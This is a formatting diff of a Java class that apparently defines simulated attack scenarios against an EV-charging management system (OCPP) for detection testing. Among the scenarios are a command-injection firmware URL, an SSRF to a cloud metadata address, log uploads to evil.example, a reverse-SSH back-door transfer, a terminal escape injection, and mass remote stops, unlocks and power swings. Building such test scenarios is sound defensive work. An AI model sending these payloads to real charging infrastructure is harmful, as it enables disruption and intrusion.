@@ -20,58 +20,282 @@ final class CsmsAttacks {
         return List.of(
                 Attack.of("A38", "one station", s -> fleet(s, 1, 8, 30, a -> reserve(a, "X"))),
                 Attack.of("A38", "everywhere", s -> fleet(s, 10, 1, 2, a -> reserve(a, "X"))),
-                Attack.of("A38", "busy elsewhere", s -> fleet(s, 5, 1, 5, a -> a.tell("StartTransaction", a.starting(1, "V", 0, a.time()), object("transactionId", 0, "idTagInfo", status("ConcurrentTx"))))),
-                Attack.of("A42", "stops", s -> { fleet(s, 20, 1, 5, a -> a.boot().status(1, "Charging").start(1, "T" + a.random.nextInt(99_999), 0, 1 + a.random.nextInt(999_999))); fleet(s, 20, 1, 0.2, a -> a.order("RemoteStopTransaction", object("transactionId", 5_000_000), status("Accepted"))); }),
-                Attack.of("A42", "resets", s -> fleet(s, 12, 1, 0.5, a -> a.order("Reset", object("type", "Hard"), status("Accepted")))),
-                Attack.of("A42", "out of service", s -> fleet(s, 12, 1, 1, a -> a.order("ChangeAvailability", object("connectorId", 0, "type", "Inoperative"), status("Accepted")))),
+                Attack.of(
+                        "A38",
+                        "busy elsewhere",
+                        s -> fleet(
+                                s,
+                                5,
+                                1,
+                                5,
+                                a -> a.tell(
+                                        "StartTransaction",
+                                        a.starting(1, "V", 0, a.time()),
+                                        object("transactionId", 0, "idTagInfo", status("ConcurrentTx"))))),
+                Attack.of("A42", "stops", s -> {
+                    fleet(s, 20, 1, 5, a -> a.boot()
+                            .status(1, "Charging")
+                            .start(1, "T" + a.random.nextInt(99_999), 0, 1 + a.random.nextInt(999_999)));
+                    fleet(
+                            s,
+                            20,
+                            1,
+                            0.2,
+                            a -> a.order(
+                                    "RemoteStopTransaction", object("transactionId", 5_000_000), status("Accepted")));
+                }),
+                Attack.of(
+                        "A42",
+                        "resets",
+                        s -> fleet(s, 12, 1, 0.5, a -> a.order("Reset", object("type", "Hard"), status("Accepted")))),
+                Attack.of(
+                        "A42",
+                        "out of service",
+                        s -> fleet(
+                                s,
+                                12,
+                                1,
+                                1,
+                                a -> a.order(
+                                        "ChangeAvailability",
+                                        object("connectorId", 0, "type", "Inoperative"),
+                                        status("Accepted")))),
                 Attack.of("A43", "negative", s -> s.order("SetChargingProfile", profile(-1, "A"), status("Accepted"))),
-                Attack.of("A43", "a megawatt", s -> s.order("SetChargingProfile", profile(1e7, "W"), status("Accepted"))),
-                Attack.of("A43", "up and down", s -> { for (int i = 0; i < 20; i++) { s.pause(20).order("SetChargingProfile", profile(i % 2 == 0 ? 0 : 32, "A"), status("Accepted")); } }),
-                Attack.of("A44", "all up", s -> { fleet(s, 12, 1, 1, a -> a.order("SetChargingProfile", profile(0, "A"), status("Accepted"))); s.pause(3_600); fleet(s, 12, 1, 0.5, a -> a.order("SetChargingProfile", profile(32, "A"), status("Accepted"))); }),
-                Attack.of("A44", "all down", s -> { fleet(s, 15, 1, 1, a -> a.order("SetChargingProfile", profile(32, "A"), status("Accepted"))); s.pause(600); fleet(s, 15, 1, 0.5, a -> a.order("SetChargingProfile", profile(0, "A"), status("Accepted"))); }),
-                Attack.of("A44", "limits lifted", s -> fleet(s, 15, 1, 0.3, a -> a.order("ClearChargingProfile", object(), status("Accepted")))),
-                Attack.of("A45", "a stranger", s -> { s.context(object("central-tags", array("APP"))); s.order("RemoteStartTransaction", object("idTag", "EVIL", "connectorId", 1), status("Accepted")); }),
-                Attack.of("A45", "unlocked", s -> s.boot().status(1, "Charging").start(1, "C", 0, 5).pause(60).order("UnlockConnector", object("connectorId", 1), status("Unlocked"))),
-                Attack.of("A45", "all unlocked", s -> fleet(s, 10, 1, 1, a -> a.order("UnlockConnector", object("connectorId", 1), status("Unlocked")))),
+                Attack.of(
+                        "A43", "a megawatt", s -> s.order("SetChargingProfile", profile(1e7, "W"), status("Accepted"))),
+                Attack.of("A43", "up and down", s -> {
+                    for (int i = 0; i < 20; i++) {
+                        s.pause(20).order("SetChargingProfile", profile(i % 2 == 0 ? 0 : 32, "A"), status("Accepted"));
+                    }
+                }),
+                Attack.of("A44", "all up", s -> {
+                    fleet(s, 12, 1, 1, a -> a.order("SetChargingProfile", profile(0, "A"), status("Accepted")));
+                    s.pause(3_600);
+                    fleet(s, 12, 1, 0.5, a -> a.order("SetChargingProfile", profile(32, "A"), status("Accepted")));
+                }),
+                Attack.of("A44", "all down", s -> {
+                    fleet(s, 15, 1, 1, a -> a.order("SetChargingProfile", profile(32, "A"), status("Accepted")));
+                    s.pause(600);
+                    fleet(s, 15, 1, 0.5, a -> a.order("SetChargingProfile", profile(0, "A"), status("Accepted")));
+                }),
+                Attack.of(
+                        "A44",
+                        "limits lifted",
+                        s -> fleet(s, 15, 1, 0.3, a -> a.order("ClearChargingProfile", object(), status("Accepted")))),
+                Attack.of("A45", "a stranger", s -> {
+                    s.context(object("central-tags", array("APP")));
+                    s.order("RemoteStartTransaction", object("idTag", "EVIL", "connectorId", 1), status("Accepted"));
+                }),
+                Attack.of("A45", "unlocked", s -> s.boot()
+                        .status(1, "Charging")
+                        .start(1, "C", 0, 5)
+                        .pause(60)
+                        .order("UnlockConnector", object("connectorId", 1), status("Unlocked"))),
+                Attack.of(
+                        "A45",
+                        "all unlocked",
+                        s -> fleet(
+                                s,
+                                10,
+                                1,
+                                1,
+                                a -> a.order("UnlockConnector", object("connectorId", 1), status("Unlocked")))),
                 Attack.of("A46", "password", s -> set(s, "AuthorizationKey", "00".repeat(20))),
                 Attack.of("A46", "address", s -> set(s, "CentralSystemURL", "ws://203.0.113.9/")),
                 Attack.of("A46", "pace", s -> set(s, "HeartbeatInterval", "1")),
                 Attack.of("A47", "metadata", s -> update(s, "http://169.254.169.254/latest/meta-data")),
                 Attack.of("A47", "a command", s -> update(s, "ftp://fw.example/`id`.bin")),
                 Attack.of("A47", "good at evil", s -> update(s, "https://fw.example@evil.example/fw.bin")),
-                Attack.of("A48", "inside", s -> s.order("GetDiagnostics", object("location", "http://127.0.0.1:8080/"), object())),
-                Attack.of("A48", "a stranger", s -> { s.context(object("log-hosts", array("logs.example"))); s.order("GetLog", object("logType", "SecurityLog", "requestId", 1, "log", object("remoteLocation", "https://evil.example/x")), status("Accepted")); }),
-                Attack.of("A48", "without end", s -> s.order("GetDiagnostics", object("location", "ftp://logs.example/", "retries", 1_000_000_000), object())),
-                Attack.of("A49", "a foreign root", s -> { s.context(object("trusted-roots", array("sha256" + "ab".repeat(32)))); s.order("InstallCertificate", object("certificateType", "CentralSystemRootCertificate", "certificate", Certificates.SELF_SIGNED), status("Accepted")); }),
-                Attack.of("A49", "the last root", s -> s.order("DeleteCertificate", object("certificateHashData", object("hashAlgorithm", "SHA256", "issuerNameHash", "a", "issuerKeyHash", "b", "serialNumber", "1")), status("Accepted"))),
-                Attack.of("A49", "a chain without end", s -> s.order("CertificateSigned", object("certificateChain", "A".repeat(12_000)), status("Rejected"))),
+                Attack.of(
+                        "A48",
+                        "inside",
+                        s -> s.order("GetDiagnostics", object("location", "http://127.0.0.1:8080/"), object())),
+                Attack.of("A48", "a stranger", s -> {
+                    s.context(object("log-hosts", array("logs.example")));
+                    s.order(
+                            "GetLog",
+                            object(
+                                    "logType",
+                                    "SecurityLog",
+                                    "requestId",
+                                    1,
+                                    "log",
+                                    object("remoteLocation", "https://evil.example/x")),
+                            status("Accepted"));
+                }),
+                Attack.of(
+                        "A48",
+                        "without end",
+                        s -> s.order(
+                                "GetDiagnostics",
+                                object("location", "ftp://logs.example/", "retries", 1_000_000_000),
+                                object())),
+                Attack.of("A49", "a foreign root", s -> {
+                    s.context(object("trusted-roots", array("sha256" + "ab".repeat(32))));
+                    s.order(
+                            "InstallCertificate",
+                            object(
+                                    "certificateType",
+                                    "CentralSystemRootCertificate",
+                                    "certificate",
+                                    Certificates.SELF_SIGNED),
+                            status("Accepted"));
+                }),
+                Attack.of(
+                        "A49",
+                        "the last root",
+                        s -> s.order(
+                                "DeleteCertificate",
+                                object(
+                                        "certificateHashData",
+                                        object(
+                                                "hashAlgorithm",
+                                                "SHA256",
+                                                "issuerNameHash",
+                                                "a",
+                                                "issuerKeyHash",
+                                                "b",
+                                                "serialNumber",
+                                                "1")),
+                                status("Accepted"))),
+                Attack.of(
+                        "A49",
+                        "a chain without end",
+                        s -> s.order(
+                                "CertificateSigned",
+                                object("certificateChain", "A".repeat(12_000)),
+                                status("Rejected"))),
                 Attack.of("A50", "emptied", s -> list(s, 0, 9)),
-                Attack.of("A50", "shrunk", s -> { list(s, 100, 8); list(s.pause(60), 2, 9); }),
-                Attack.of("A50", "all caches", s -> fleet(s, 10, 1, 1, a -> a.order("ClearCache", object(), status("Accepted")))),
+                Attack.of("A50", "shrunk", s -> {
+                    list(s, 100, 8);
+                    list(s.pause(60), 2, 9);
+                }),
+                Attack.of(
+                        "A50",
+                        "all caches",
+                        s -> fleet(s, 10, 1, 1, a -> a.order("ClearCache", object(), status("Accepted")))),
                 Attack.of("A51", "a back door", s -> transfer(s, "com.vendor", "RevSSH", "203.0.113.9")),
-                Attack.of("A51", "a stranger", s -> { s.context(object("vendor-ids", array("com.vendor"))); transfer(s, "com.evil", "x", "y"); }),
+                Attack.of("A51", "a stranger", s -> {
+                    s.context(object("vendor-ids", array("com.vendor")));
+                    transfer(s, "com.evil", "x", "y");
+                }),
                 Attack.of("A51", "a long blob", s -> transfer(s, "com.vendor", "blob", "QUJD".repeat(2_000))),
-                Attack.of("A52", "a day ahead", s -> { s.boot().pause(60).heartbeat().pause(60); s.tell("Heartbeat", object(), object("currentTime", s.now.plusSeconds(86_400).toString())); }),
-                Attack.of("A52", "1970", s -> { s.boot().pause(60); s.tell("Heartbeat", object(), object("currentTime", "1970-01-01T00:00:00Z")); }),
-                Attack.of("A52", "never again", s -> s.tell("BootNotification", object("chargePointVendor", "v", "chargePointModel", "m"), object("status", "Accepted", "currentTime", s.time(), "interval", Integer.MAX_VALUE))),
-                Attack.of("A53", "never accepted", s -> { for (int i = 0; i < 12; i++) { s.pause(60).tell("BootNotification", object("chargePointVendor", "v", "chargePointModel", "m"), object("status", i % 2 == 0 ? "Pending" : "Rejected", "currentTime", s.time(), "interval", 60)); } }),
-                Attack.of("A53", "everybody blocked", s -> { for (int i = 0; i < 6; i++) { s.pause(300).authorize("T" + i, "Blocked"); } }),
-                Attack.of("A53", "the same number", s -> s.start(1, "A", 0, 5).pause(30).start(2, "B", 7, 5)),
-                Attack.of("A54", "beyond the buffer", s -> { s.context(object("stations", array(object("id", "CP1", "limits", object("frame-bytes", 2_048))))); transfer(s, "com.vendor", "x", "a b ".repeat(900)); }),
-                Attack.of("A54", "too many periods", s -> { s.context(object("stations", array(object("id", "CP1", "limits", object("schedule-max-periods", 6))))); s.order("SetChargingProfile", periods(30), status("Accepted")); }),
+                Attack.of("A52", "a day ahead", s -> {
+                    s.boot().pause(60).heartbeat().pause(60);
+                    s.tell(
+                            "Heartbeat",
+                            object(),
+                            object("currentTime", s.now.plusSeconds(86_400).toString()));
+                }),
+                Attack.of("A52", "1970", s -> {
+                    s.boot().pause(60);
+                    s.tell("Heartbeat", object(), object("currentTime", "1970-01-01T00:00:00Z"));
+                }),
+                Attack.of(
+                        "A52",
+                        "never again",
+                        s -> s.tell(
+                                "BootNotification",
+                                object("chargePointVendor", "v", "chargePointModel", "m"),
+                                object("status", "Accepted", "currentTime", s.time(), "interval", Integer.MAX_VALUE))),
+                Attack.of("A53", "never accepted", s -> {
+                    for (int i = 0; i < 12; i++) {
+                        s.pause(60)
+                                .tell(
+                                        "BootNotification",
+                                        object("chargePointVendor", "v", "chargePointModel", "m"),
+                                        object(
+                                                "status",
+                                                i % 2 == 0 ? "Pending" : "Rejected",
+                                                "currentTime",
+                                                s.time(),
+                                                "interval",
+                                                60));
+                    }
+                }),
+                Attack.of("A53", "everybody blocked", s -> {
+                    for (int i = 0; i < 6; i++) {
+                        s.pause(300).authorize("T" + i, "Blocked");
+                    }
+                }),
+                Attack.of("A53", "the same number", s -> s.start(1, "A", 0, 5)
+                        .pause(30)
+                        .start(2, "B", 7, 5)),
+                Attack.of("A54", "beyond the buffer", s -> {
+                    s.context(object("stations", array(object("id", "CP1", "limits", object("frame-bytes", 2_048)))));
+                    transfer(s, "com.vendor", "x", "a b ".repeat(900));
+                }),
+                Attack.of("A54", "too many periods", s -> {
+                    s.context(object(
+                            "stations", array(object("id", "CP1", "limits", object("schedule-max-periods", 6)))));
+                    s.order("SetChargingProfile", periods(30), status("Accepted"));
+                }),
                 Attack.of("A54", "a hundred kilobytes", s -> transfer(s, "com.vendor", "x", "a b ".repeat(25_000))),
-                Attack.of("A55", "twenty at once", s -> { for (int i = 0; i < 20; i++) { s.pause(0.01).demand("TriggerMessage", object("requestedMessage", "Heartbeat")); } }),
-                Attack.of("A55", "answered, but a hundred", s -> { for (int i = 0; i < 100; i++) { s.order("TriggerMessage", object("requestedMessage", "Heartbeat"), status("Accepted")); } }),
-                Attack.of("A55", "never answered", s -> { for (int i = 0; i < 12; i++) { s.pause(2).demand("GetConfiguration", object()); } }),
-                Attack.of("A56", "a secret", s -> s.order("GetConfiguration", object("key", array("AuthorizationKey")), object("unknownKey", array("AuthorizationKey")))),
-                Attack.of("A56", "a map", s -> { s.pause(900); fleet(s, 20, 1, 1, a -> a.order("GetConfiguration", object(), object())); }),
-                Attack.of("A56", "all about one", s -> { s.order("GetConfiguration", object(), object()).pause(2).order("GetLocalListVersion", object(), object("listVersion", 1)).pause(2).order("TriggerMessage", object("requestedMessage", "BootNotification"), status("Accepted")); }),
-                Attack.of("A58", "resets", s -> fleet(s, 12, 1, 300, a -> a.order("Reset", object("type", "Hard"), status("Accepted")))),
-                Attack.of("A58", "cards", s -> fleet(s, 14, 1, 290, a -> a.authorize(Long.toHexString(a.random.nextLong()), "Invalid"))),
-                Attack.of("A58", "held down", s -> fleet(s, 12, 1, 300, a -> a.order("SetChargingProfile", profile(0, "A"), status("Accepted")))),
-                Attack.of("A60", "a foreign CSMS", s -> { s.context(object("csms-peers", array("192.0.2.1"))); s.csms("203.0.113.5").heartbeat(); }),
-                Attack.of("A60", "a foreign command", s -> { s.context(object("csms-peers", array("192.0.2.1", "192.0.2.2"))); s.csms("203.0.113.5").order("ClearCache", object(), status("Accepted")); }),
-                Attack.of("A60", "a name for the log", s -> s.event("refused", "reason", "unknown-id", "station", "x\u001b[31m")));
+                Attack.of("A55", "twenty at once", s -> {
+                    for (int i = 0; i < 20; i++) {
+                        s.pause(0.01).demand("TriggerMessage", object("requestedMessage", "Heartbeat"));
+                    }
+                }),
+                Attack.of("A55", "answered, but a hundred", s -> {
+                    for (int i = 0; i < 100; i++) {
+                        s.order("TriggerMessage", object("requestedMessage", "Heartbeat"), status("Accepted"));
+                    }
+                }),
+                Attack.of("A55", "never answered", s -> {
+                    for (int i = 0; i < 12; i++) {
+                        s.pause(2).demand("GetConfiguration", object());
+                    }
+                }),
+                Attack.of(
+                        "A56",
+                        "a secret",
+                        s -> s.order(
+                                "GetConfiguration",
+                                object("key", array("AuthorizationKey")),
+                                object("unknownKey", array("AuthorizationKey")))),
+                Attack.of("A56", "a map", s -> {
+                    s.pause(900);
+                    fleet(s, 20, 1, 1, a -> a.order("GetConfiguration", object(), object()));
+                }),
+                Attack.of("A56", "all about one", s -> {
+                    s.order("GetConfiguration", object(), object())
+                            .pause(2)
+                            .order("GetLocalListVersion", object(), object("listVersion", 1))
+                            .pause(2)
+                            .order(
+                                    "TriggerMessage",
+                                    object("requestedMessage", "BootNotification"),
+                                    status("Accepted"));
+                }),
+                Attack.of(
+                        "A58",
+                        "resets",
+                        s -> fleet(s, 12, 1, 300, a -> a.order("Reset", object("type", "Hard"), status("Accepted")))),
+                Attack.of(
+                        "A58",
+                        "cards",
+                        s -> fleet(s, 14, 1, 290, a -> a.authorize(Long.toHexString(a.random.nextLong()), "Invalid"))),
+                Attack.of(
+                        "A58",
+                        "held down",
+                        s -> fleet(
+                                s,
+                                12,
+                                1,
+                                300,
+                                a -> a.order("SetChargingProfile", profile(0, "A"), status("Accepted")))),
+                Attack.of("A60", "a foreign CSMS", s -> {
+                    s.context(object("csms-peers", array("192.0.2.1")));
+                    s.csms("203.0.113.5").heartbeat();
+                }),
+                Attack.of("A60", "a foreign command", s -> {
+                    s.context(object("csms-peers", array("192.0.2.1", "192.0.2.2")));
+                    s.csms("203.0.113.5").order("ClearCache", object(), status("Accepted"));
+                }),
+                Attack.of(
+                        "A60",
+                        "a name for the log",
+                        s -> s.event("refused", "reason", "unknown-id", "station", "x\u001b[31m")));
     }
 
     private static void fleet(Scene s, int stations, int times, double every, Consumer<Scene> what) {
@@ -81,7 +305,18 @@ final class CsmsAttacks {
     }
 
     private static void reserve(Scene s, String tag) {
-        s.order("ReserveNow", object("connectorId", 1, "expiryDate", s.now.plusSeconds(7_200).toString(), "idTag", tag, "reservationId", 1), status("Accepted"));
+        s.order(
+                "ReserveNow",
+                object(
+                        "connectorId",
+                        1,
+                        "expiryDate",
+                        s.now.plusSeconds(7_200).toString(),
+                        "idTag",
+                        tag,
+                        "reservationId",
+                        1),
+                status("Accepted"));
     }
 
     private static void set(Scene s, String key, String value) {
@@ -97,14 +332,22 @@ final class CsmsAttacks {
     }
 
     private static void list(Scene s, int size, int version) {
-        Object[] entries = IntStream.range(0, size).mapToObj(i -> object("idTag", "T" + i)).toArray();
-        s.order("SendLocalList", object("listVersion", version, "updateType", "Full", "localAuthorizationList", array(entries)), status("Accepted"));
+        Object[] entries =
+                IntStream.range(0, size).mapToObj(i -> object("idTag", "T" + i)).toArray();
+        s.order(
+                "SendLocalList",
+                object("listVersion", version, "updateType", "Full", "localAuthorizationList", array(entries)),
+                status("Accepted"));
     }
 
     private static ObjectNode periods(int count) {
         ObjectNode profile = profile(16, "A");
         ObjectNode schedule = (ObjectNode) profile.path("csChargingProfiles").path("chargingSchedule");
-        schedule.set("chargingSchedulePeriod", array(IntStream.range(0, count).mapToObj(i -> object("startPeriod", i * 60, "limit", 16)).toArray()));
+        schedule.set(
+                "chargingSchedulePeriod",
+                array(IntStream.range(0, count)
+                        .mapToObj(i -> object("startPeriod", i * 60, "limit", 16))
+                        .toArray()));
         return profile;
     }
 }
